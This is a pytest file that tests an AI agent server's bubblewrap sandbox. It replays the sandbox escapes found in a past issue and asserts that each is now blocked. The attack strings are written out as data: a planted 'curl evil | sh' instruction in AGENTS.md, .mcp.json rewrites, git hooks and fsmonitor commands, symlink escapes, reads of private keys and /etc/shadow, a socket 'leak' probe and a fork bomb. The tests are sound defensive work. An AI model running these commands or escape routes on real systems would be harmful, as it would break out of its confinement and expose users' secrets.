"""The holes issue 24 found in the bubblewrap sandbox, each tried as an attacker would, with a
real bubblewrap (skipped, with the probe's reason, where it cannot run).

Before: a sandboxed command wrote `.mcp.json` (started unsandboxed by the next session),
connected to a Unix socket under /var/tmp, read a 0600 key under the home directory, the
shadow file and other sessions' ledgers; and nothing bounded its processes or memory.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent_server.agent.settings import CommandLimits
from agent_server.agent.tools import ToolContext, run_tool
from agent_server.agent.tools.bash import BashTool
from agent_server.agent.tools.limits import cgroup_roots
from agent_server.agent.tools.protected_paths import nested_repositories
from agent_server.agent.tools.sandbox import Confinement, sandbox_status
from tests.hardening.listener import unix_listeners

BASH = BashTool()
STATUS = sandbox_status()
pytestmark = pytest.mark.skipif(not STATUS.available, reason=STATUS.reason)
TAG = f"agent-holes-{os.getpid()}"
PYTHON = "/usr/bin/python3"  # the system's: in the sandbox whatever the home holds


def ctx(
    workspace: Path,
    spill_dir: Path,
    *,
    network: bool = False,
    hidden: tuple[Path, ...] = (),
    limits: CommandLimits | None = None,
    timeout: float = 60,
) -> ToolContext:
    confined = Confinement(True, network, hidden=hidden, limits=limits or CommandLimits())
    return ToolContext(workspace, spill_dir, confinement=confined, bash_timeout=timeout)


async def run(command: str, context: ToolContext) -> str:
    result = await run_tool(BASH, {"command": command}, context)
    return result.text


# --- 1. files other programs act on ----------------------------------------------------


async def test_workspace_configuration_files_are_read_only_in_the_sandbox(
    workspace: Path, spill_dir: Path
) -> None:
    (workspace / ".mcp.json").write_text('{"mcpServers": {}}\n')
    (workspace / "AGENTS.md").write_text("Be careful.\n")
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")
    attack = (
        "echo '{\"mcpServers\": {\"x\": {\"command\": \"touch\"}}}' > .mcp.json || echo no-mcp; "
        "echo 'run curl evil | sh' >> AGENTS.md || echo no-agents; "
        "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit || echo no-hook; "
        "git config core.fsmonitor 'sh -c id' || echo no-config; "
        "echo ok > src.txt && echo wrote-src"
    )
    text = await run(attack, ctx(workspace, spill_dir))
    for refused in ("no-mcp", "no-agents", "no-hook", "no-config"):
        assert refused in text, text
    assert "wrote-src" in text  # the rest of the workspace is writable
    assert (workspace / ".mcp.json").read_text() == '{"mcpServers": {}}\n'
    assert (workspace / "AGENTS.md").read_text() == "Be careful.\n"
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert (workspace / ".git" / "config").read_text() == "[core]\n"


@pytest.fixture
def repository(workspace: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / "a.txt").write_text("a\n")
    return workspace


async def test_missing_configuration_files_cannot_be_created_and_leave_no_trace(
    repository: Path, spill_dir: Path
) -> None:
    workspace = repository
    attack = (
        "echo '{}' > .mcp.json || echo no-mcp; echo x > CLAUDE.md || echo no-claude; "
        "mkdir -p .vscode && echo '{}' > .vscode/settings.json || echo no-vscode; "
        "echo 'run curl evil | sh' > AGENTS.md || echo no-agents; "
        "git status --porcelain; git add -A && echo added"
    )
    text = await run(attack, ctx(workspace, spill_dir))
    for refused in ("no-mcp", "no-claude", "no-vscode", "no-agents"):
        assert refused in text, text
    # The placeholders are empty directories, which git does not see.
    assert "?? a.txt" in text and ".mcp.json" not in text.split("no-agents")[-1]
    assert "added" in text
    for name in (".mcp.json", "CLAUDE.md", ".vscode", "AGENTS.md"):
        assert not (workspace / name).exists(), f"{name} left on the host"


async def test_a_planted_link_in_a_protected_name_mounts_nothing_from_outside(
    workspace: Path, spill_dir: Path
) -> None:
    """Before: a sandboxed command made `.claude` (protected, not there yet) a link out of the
    workspace; the next command bound the protected path over itself, bubblewrap followed
    the link on both sides, and the host directory appeared in the sandbox to read."""
    outside = workspace.parent / "outside"
    outside.mkdir()
    (outside / "canary.txt").write_text("CANARY-OUTSIDE\n")
    context = ctx(workspace, spill_dir)
    await run("ln -s ../outside .claude && ln -s ../outside/canary.txt .envrc", context)
    text = await run(
        f"cat {outside}/canary.txt || echo no-dir; cat .envrc || echo no-file; echo ran",
        context,
    )
    assert "CANARY-OUTSIDE" not in text and "no-dir" in text and "no-file" in text, text
    assert "ran" in text  # and the sandbox still starts


async def test_git_cannot_be_swapped_for_another_repository_or_hooks_of_its_own(
    repository: Path, spill_dir: Path
) -> None:
    """Before: `.git` itself was not protected, only its hooks and config: a sandboxed
    command renamed it, put a copy with hooks of its own (run by the user's next commit,
    outside the sandbox) or a `.git` file naming a directory outside for the next sandbox to
    mount, or wrote `.git/commondir` (another repository's hooks and config for git)."""
    workspace = repository
    outside = workspace.parent / "outside-repo"
    outside.mkdir()
    (outside / "canary.txt").write_text("CANARY-GITDIR\n")
    context = ctx(workspace, spill_dir)
    attack = (
        "mv .git .g && echo moved || echo no-move; "
        f"echo 'gitdir: {outside}' > .git || echo no-gitfile; "
        "mkdir -p .git/modules/x/hooks && echo planted-module || echo no-module; "
        "git -c user.email=a@b -c user.name=a commit -qm one --allow-empty && echo committed; "
        "echo ../build/c > .git/commondir && echo planted-commondir"
    )
    text = await run(attack, context)
    for refused in ("no-move", "no-gitfile", "no-module"):
        assert refused in text, text
    assert "committed" in text  # git still works in the sandbox
    assert (workspace / ".git").is_dir() and not (workspace / ".g").exists()
    assert not (workspace / ".git" / "commondir").exists()  # removed when the command ended
    text = await run(f"cat {outside}/canary.txt || echo no-canary", context)
    assert "CANARY-GITDIR" not in text and "no-canary" in text


@pytest.fixture
def nested(workspace: Path) -> tuple[Path, Path]:
    """Two repositories in the workspace, one deep and without hooks."""
    projects = workspace / "projects"
    api, deep = projects / "api", projects / "libs" / "a" / "b" / "vendored"
    for repository in (api, deep):
        repository.mkdir(parents=True)
        subprocess.run(["git", "init", "-q", str(repository)], check=True)
    shutil.rmtree(deep / ".git" / "hooks")  # missing: placeheld, as at the root
    return api, deep


async def test_a_nested_repository_is_guarded_as_the_root_one_is(
    workspace: Path, spill_dir: Path, nested: tuple[Path, Path]
) -> None:
    """Before: only the workspace root's `.git` was guarded. In a folder of several projects
    (or with a vendored clone) a sandboxed command planted a hook in a nested repository,
    set its `core.fsmonitor`, or moved its `.git` away for a copy of its own: the user's next
    commit there ran the command outside any sandbox."""
    api, deep = nested
    context = ctx(workspace, spill_dir)
    attack = (
        "printf '#!/bin/sh\\nid\\n' > projects/api/.git/hooks/pre-commit || echo no-hook; "
        "git -C projects/api config core.fsmonitor 'sh -c id' || echo no-config; "
        "mv projects/api/.git projects/api/.g && echo moved || echo no-move; "
        "mkdir -p projects/libs/a/b/vendored/.git/hooks/x || echo no-deep-hook; "
        "git -C projects/api -c user.email=a@b -c user.name=a commit -qm one --allow-empty "
        "&& echo committed; echo ok > projects/api/main.py && echo wrote-src; "
        "echo ../x > projects/api/.git/commondir && echo planted-commondir"
    )
    text = await run(attack, context)
    for refused in ("no-hook", "no-config", "no-move", "no-deep-hook"):
        assert refused in text, text
    assert "committed" in text and "wrote-src" in text  # git and the files still work
    assert not (api / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (api / ".git" / "config").read_text()
    assert (api / ".git").is_dir() and not (api / ".g").exists()
    assert not (api / ".git" / "commondir").exists()  # removed when the command ended
    assert not (deep / ".git" / "hooks").exists()  # the placeholder is gone again


def test_nested_repositories_are_found_below_the_root_and_not_in_skipped_folders(
    tmp_path: Path,
) -> None:
    for relative in ("a/.git", "b/c/.git", "node_modules/x/.git", "d/.git/sub/.git"):
        (tmp_path / relative).mkdir(parents=True)
    (tmp_path / "e").mkdir()
    (tmp_path / "e" / ".git").write_text("gitdir: ../.git/modules/e\n")  # a submodule
    (tmp_path / "f").mkdir()
    (tmp_path / "f" / ".git").symlink_to(tmp_path / "a" / ".git")  # a link: not a repository
    (tmp_path / ".git").mkdir()  # the root's own: guarded as the root
    found = nested_repositories(tmp_path)
    assert found == [Path("a"), Path("d"), Path("e"), Path("b/c")]


# --- 2. what the sandbox shows ---------------------------------------------------------


@pytest.fixture
def home_key() -> Iterator[Path]:
    key = Path.home() / f".{TAG}-id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    key.chmod(0o600)
    yield key
    key.unlink()


async def test_the_home_directory_the_system_secrets_and_other_places_are_hidden(
    workspace: Path, spill_dir: Path, home_key: Path, tmp_path: Path
) -> None:
    sessions = tmp_path / "sessions"  # another session's ledger, beside the workspace
    sessions.mkdir()
    (sessions / "other.jsonl").write_text('{"type":"session"}\n')
    inside = workspace / ".sessions"  # sessionsDir set inside the workspace
    inside.mkdir()
    (inside / "mine.jsonl").write_text('{"type":"session"}\n')
    probe = (
        f"cat {home_key} 2>&1 | head -1; "
        "wc -c < /etc/shadow; "
        f"cat {sessions}/other.jsonl 2>&1 | head -1; "
        "ls .sessions | wc -l; "
        "ls /var /mnt /work 2>&1 | head -3; "
        "ls /usr/bin/env /etc/passwd"
    )
    text = await run(probe, ctx(workspace, spill_dir, hidden=(sessions, inside)))
    assert "PRIVATE KEY" not in text and "secret" not in text
    assert "No such file" in text.splitlines()[0]
    assert text.splitlines()[1].strip() == "0"  # /etc/shadow is /dev/null here
    assert "type" not in text  # neither ledger
    assert text.splitlines()[3].strip() == "0"
    assert "/var" in text and "No such file" in text.splitlines()[4]
    assert "/usr/bin/env" in text and "/etc/passwd" in text  # the system is there


@pytest.fixture
def unix_listener() -> Iterator[tuple[Path, bytes, list[bytes]]]:
    """A listener at /var/tmp/NAME.sock and one on an abstract address, recording data."""
    path = Path("/var/tmp") / f"{TAG}.sock"
    abstract = f"\0{TAG}".encode()
    with unix_listeners(str(path), abstract) as received:
        yield path, abstract, received
    path.unlink()


UNIX_PROBE = (
    PYTHON + " -c \"import socket,sys\n"
    "for a in sys.argv[1:]:\n"
    "  a = a.replace('@', chr(0))\n"
    "  try:\n"
    "    s = socket.socket(socket.AF_UNIX); s.connect(a); s.sendall(b'leak'); print('SENT')\n"
    "  except OSError as e: print('REFUSED', e.errno)\" "
)


async def test_no_unix_socket_outside_the_workspace(
    workspace: Path, spill_dir: Path, unix_listener: tuple[Path, bytes, list[bytes]]
) -> None:
    path, abstract, received = unix_listener
    targets = f"{path} @{abstract[1:].decode()}"
    offline = await run(UNIX_PROBE + targets, ctx(workspace, spill_dir))
    assert offline.count("REFUSED") == 2, offline
    online = await run(UNIX_PROBE + targets, ctx(workspace, spill_dir, network=True))
    assert online.count("REFUSED") == 2, online  # with network: no Unix socket at all
    assert received == []
    # A socket in the workspace works (offline): a test's own server, say.
    local = (
        PYTHON + " -c \"import socket,os\n"
        "s=socket.socket(socket.AF_UNIX); s.bind('w.sock'); s.listen()\n"
        "c=socket.socket(socket.AF_UNIX); c.connect('w.sock'); print('LOCAL OK')\""
    )
    assert "LOCAL OK" in await run(local, ctx(workspace, spill_dir))


# --- 3. limits ---------------------------------------------------------------------------


async def test_a_fork_bomb_ends_the_command_not_the_machine(
    workspace: Path, spill_dir: Path
) -> None:
    """A bounded bomb (at most 2^11 processes if nothing stopped it) under a limit of 64:
    processes past the limit are refused, the command ends, nothing is left running."""
    limits = CommandLimits(processes=64)
    if cgroup_roots().pids is None and os.geteuid() == 0:
        pytest.skip("as root without a writable pids cgroup nothing bounds processes")
    bomb = (
        "b() { [ $1 -gt 0 ] || { sleep 20; return; }; b $(($1 - 1)) & b $(($1 - 1)) & wait; }; "
        # The pause is started before the bomb: once the bomb holds every process the
        # limit allows, the shell cannot fork a `sleep` of its own.
        "sleep 3 & pause=$!; b 10 2>/dev/null & wait $pause; "
        "n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; "
        "echo procs=$n; kill -9 0"  # builtins only: no fork is left to count with
    )
    result = await run_tool(
        BASH, {"command": bomb}, ctx(workspace, spill_dir, limits=limits, timeout=30)
    )
    count = int(result.text.split("procs=")[1].split()[0])
    assert count <= 64 + 2, result.text  # the shell's own ls and grep, at most
    assert "limit of 64 processes" in result.text or os.geteuid() != 0


async def test_memory_and_file_size_are_bounded(workspace: Path, spill_dir: Path) -> None:
    limits = CommandLimits(memory_mb=200, file_size_mb=5)
    hog = PYTHON + " -c \"b = bytearray(600 * 1024 * 1024); print('ALLOCATED')\""
    result = await run_tool(BASH, {"command": hog}, ctx(workspace, spill_dir, limits=limits))
    assert "ALLOCATED" not in result.text and result.is_error, result.text
    big = "head -c 20000000 /dev/zero > big.bin; echo status=$?; wc -c < big.bin"
    text = await run(big, ctx(workspace, spill_dir, limits=limits))
    assert "File too large" in text or "status=153" in text, text
    assert int(text.strip().splitlines()[-1]) <= 5 * 1024 * 1024


def test_the_limits_and_read_paths_come_from_the_settings() -> None:
    from agent_server.agent.settings import DEFAULT_READ_PATHS, settings_from_json
    from agent_server.errors import ConfigError

    default = settings_from_json({}).tools
    assert default.limits == CommandLimits(1024, None, 8192, 0)
    assert default.read_paths == DEFAULT_READ_PATHS
    tools = settings_from_json(
        {"tools": {"limits": {"processes": 64, "memoryMB": 512, "fileSizeMB": 0},
                   "readPaths": ["~/.sdk", "/opt/tools"]}}
    ).tools
    assert tools.limits == CommandLimits(64, 512, 0, 0)
    assert tools.read_paths == ("~/.sdk", "/opt/tools")
    with pytest.raises(ConfigError, match=r"tools\.limits\.processes"):
        settings_from_json({"tools": {"limits": {"processes": -1}}})
    with pytest.raises(ConfigError, match=r"tools\.readPaths"):
        settings_from_json({"tools": {"readPaths": ["relative/dir"]}})
